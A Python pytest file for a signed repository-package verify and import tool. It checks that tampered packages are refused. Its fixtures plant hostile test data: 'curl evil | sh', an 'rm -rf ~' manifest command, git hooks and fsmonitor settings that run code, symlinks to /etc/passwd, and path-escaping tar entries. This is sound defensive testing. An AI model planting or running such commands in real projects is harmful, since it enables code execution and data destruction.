"""Verify and import catch every tampering, name the file, and write nothing to repos/."""

from __future__ import annotations

import io
import json
import os
import shutil
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from cra.cli import cli
from cra.repos.importer import UnsafePackage, import_package
from cra.repos.listing import list_packages
from cra.repos.signing import Trust
from cra.repos.verify import PackageInvalid, verify_package
from cra.workspace import Workspace, init_workspace, open_workspace
from tests.helpers import signer_of, trust_key, wheel_of
from tests.repos.helpers import export_tar, repos_entries


def _pytest_wheel(root: Path) -> str:
    """The package's pytest wheel, whatever its version."""
    return wheel_of(root / "packages", "pytest")


@pytest.fixture
def other(tmp_path: Path, packed: Path) -> Workspace:
    """A second workspace: the air-gapped machine, which trusts the packing machine's key."""
    root = init_workspace(tmp_path / "airgapped").workspace.root
    trust_key(root, signer_of(packed))
    return open_workspace(root)


def _trust(workspace: Workspace) -> Trust:
    return Trust.of_workspace(workspace.root, workspace.config.settings.repos.trusted_keys)


def _flip_byte(root: Path) -> str:
    wheel = _pytest_wheel(root)
    path = root / "packages" / wheel
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0xFF
    path.write_bytes(bytes(data))
    return f"packages/{wheel}: sha256"


def _drop_wheel(root: Path) -> str:
    wheel = _pytest_wheel(root)
    (root / "packages" / wheel).unlink()
    return f"packages/{wheel} is missing"


def _extra_wheel(root: Path) -> str:
    (root / "packages" / "evil-1.0-py3-none-any.whl").write_bytes(b"PK")
    return "packages/evil-1.0-py3-none-any.whl is not in the manifest"


def _extra_top_file(root: Path) -> str:
    (root / "install.sh").write_text("curl evil | sh\n")
    return "install.sh is not part of a package"


def _edit_manifest(root: Path) -> str:
    path = root / "manifest.json"
    data = json.loads(path.read_text())
    data["test"]["command"] = "python -c 'import os; os.system(\"rm -rf ~\")'"
    path.write_text(json.dumps(data, indent=2))
    return "edited by hand"


def _symlink_out(root: Path) -> str:
    os.symlink("/etc/passwd", root / "packages" / "passwd.whl")
    return "packages/passwd.whl"


def _hook(root: Path) -> str:
    hook = root / "repo" / ".git" / "hooks" / "post-checkout"
    hook.parent.mkdir(exist_ok=True)  # a fresh package has no hooks folder at all
    hook.write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    return "repo/.git/hooks/post-checkout would run code"


def _git_config(root: Path) -> str:
    with (root / "repo" / ".git" / "config").open("a") as fh:
        fh.write('[core]\n\tfsmonitor = "touch /tmp/pwned"\n')
    return "sets core.fsmonitor"


def _corrupt_object(root: Path) -> str:
    packs = sorted((root / "repo" / ".git" / "objects" / "pack").glob("*.pack"))
    data = bytearray(packs[0].read_bytes())
    data[200] ^= 0xFF
    packs[0].write_bytes(bytes(data))
    return "git fsck of repo/"


TAMPERINGS: dict[str, Callable[[Path], str]] = {
    "flipped_byte": _flip_byte,
    "missing_wheel": _drop_wheel,
    "extra_wheel": _extra_wheel,
    "extra_top_file": _extra_top_file,
    "edited_manifest": _edit_manifest,
    "symlink_out": _symlink_out,
    "hook": _hook,
    "git_config": _git_config,
    "corrupt_object": _corrupt_object,
}


def test_a_fresh_package_passes_every_check(packed: Path) -> None:
    """A fresh package passes the layout, manifest, wheels, eras and git checks."""
    report = verify_package(packed)
    assert [(c.name, c.ok) for c in report.checks] == [
        ("layout", True),
        ("manifest", True),
        ("wheels", True),
        ("eras", True),
        ("git", True),
    ]
    assert report.checks[2].detail == "7 wheels match their sha256"
    assert report.checks[3].detail == "1 usable: 2023..2024"


def test_cli_verify_checks_the_signature_by_the_workspace_key(packed: Path) -> None:
    """`cra repo verify` checks the signature too; the workspace's own key is trusted."""
    result = CliRunner().invoke(cli, ["repo", "verify", "tally", "--json"])
    assert result.exit_code == 0, result.output
    checks = {c["name"]: c for c in json.loads(result.output)["checks"]}
    assert checks["signature"]["ok"] and checks["signature"]["detail"].startswith("signed by")


@pytest.mark.parametrize("case", sorted(TAMPERINGS))
def test_verify_names_the_tampered_file(packed: Path, case: str) -> None:
    """repo verify fails on a tampered package and names the tampered file and failed check."""
    expected = TAMPERINGS[case](packed)
    result = CliRunner().invoke(cli, ["repo", "verify", "tally"])
    assert result.exit_code == 1
    failed = [line for line in result.output.splitlines() if line.startswith("FAIL")]
    assert failed and expected in "\n".join(failed), result.output
    assert f"error: tally: {failed[0].split()[1].rstrip(':')} check failed" in result.output


@pytest.mark.parametrize("as_tar", [False, True], ids=["folder", "tar"])
@pytest.mark.parametrize("case", sorted(TAMPERINGS))
def test_import_refuses_tampering_and_writes_nothing(
    packed: Path, other: Workspace, tmp_path: Path, case: str, as_tar: bool
) -> None:
    """Import of a tampered package, as folder or tar, is refused and writes nothing."""
    usb = tmp_path / "usb" / "tally"
    shutil.copytree(packed, usb, symlinks=True)
    expected = TAMPERINGS[case](usb)
    source = export_tar(usb, tmp_path / "tally.tar") if as_tar else usb
    with pytest.raises((PackageInvalid, UnsafePackage)) as info:
        import_package(other, source, trust=_trust(other))
    if case == "symlink_out":
        assert isinstance(info.value, UnsafePackage)
        assert "passwd.whl" in str(info.value) and (
            "symlink" in str(info.value) or "link" in str(info.value)
        )
    else:
        assert expected in str(info.value)
    assert repos_entries(other.repos_dir) == []
    assert list_packages(other) == []


def test_import_from_folder_and_tar_then_list(
    packed: Path, other: Workspace, tmp_path: Path
) -> None:
    """Import works from folder and tar, renames reseal, and repo list shows later changes."""
    result = import_package(other, packed, trust=_trust(other))
    assert result.report.ok
    tar = export_tar(packed, tmp_path / "tally.tar")
    renamed = import_package(other, tar, name="tally-copy", trust=_trust(other))
    assert renamed.manifest.name == "tally-copy"
    assert verify_package(renamed.package.root).ok  # the rewritten manifest is sealed again
    assert repos_entries(other.repos_dir) == ["tally", "tally-copy"]
    runner = CliRunner()
    listed = runner.invoke(cli, ["-w", str(other.root), "repo", "list", "--json"])
    rows = {row["name"]: row for row in json.loads(listed.output)}
    assert rows["tally"]["commits"] == 20
    assert rows["tally"]["environments"] == 1
    assert rows["tally"]["wheels"] == 7
    assert rows["tally"]["state"] == "verified"
    assert rows["tally"]["size_bytes"] > 1_000_000
    again = runner.invoke(cli, ["-w", str(other.root), "repo", "import", str(packed)])
    assert again.exit_code == 2 and "already exists" in again.output
    # A change after import shows in the list without reading any wheel.
    imported = other.repos_dir / "tally"
    (imported / "packages" / _pytest_wheel(imported)).write_bytes(b"changed")
    table = runner.invoke(cli, ["-w", str(other.root), "repo", "list"]).output
    assert "changed since verified" in table


def _tar_with(tmp_path: Path, packed: Path, member: tarfile.TarInfo, data: bytes = b"") -> Path:
    path = export_tar(packed, tmp_path / "evil.tar")
    with tarfile.open(path, "a") as archive:
        archive.addfile(member, io.BytesIO(data) if member.isfile() else None)
    return path


@pytest.mark.parametrize(
    ("make", "why"),
    [
        (lambda: tarfile.TarInfo("../escaped.txt"), "'..' escapes the package"),
        (lambda: tarfile.TarInfo("/tmp/absolute.txt"), "absolute path"),
        (lambda: _link("tally/packages/x.whl", "/etc/passwd", tarfile.SYMTYPE), "link to"),
        (lambda: _link("tally/packages/y.whl", "/etc/passwd", tarfile.LNKTYPE), "link to"),
    ],
    ids=["dotdot", "absolute", "symlink", "hardlink"],
)
def test_tar_entries_that_escape_are_refused(
    packed: Path, other: Workspace, tmp_path: Path, make: Callable[[], tarfile.TarInfo], why: str
) -> None:
    """A tar whose entries escape the package is refused and nothing is extracted or imported."""
    member = make()
    if member.isfile():
        member.size = 4
    tar = _tar_with(tmp_path, packed, member, b"evil")
    result = CliRunner().invoke(cli, ["-w", str(other.root), "repo", "import", str(tar)])
    assert result.exit_code == 1
    assert why in result.output and "nothing was imported" in result.output
    assert repos_entries(other.repos_dir) == []
    assert not (tmp_path / "escaped.txt").exists() and not Path("/tmp/absolute.txt").exists()


def _link(name: str, target: str, kind: bytes) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info


def test_import_of_something_that_is_not_a_package(other: Workspace, tmp_path: Path) -> None:
    """Import of a folder without manifest or a non-tar file is a usage error importing nothing."""
    (tmp_path / "empty").mkdir()
    result = CliRunner().invoke(
        cli, ["-w", str(other.root), "repo", "import", str(tmp_path / "empty")]
    )
    assert result.exit_code == 2
    assert "holds no manifest.json" in result.output
    (tmp_path / "junk.tar").write_bytes(b"not a tar at all")
    result = CliRunner().invoke(
        cli, ["-w", str(other.root), "repo", "import", str(tmp_path / "junk.tar")]
    )
    assert result.exit_code == 2 and "not a readable tar archive" in result.output
    assert repos_entries(other.repos_dir) == []
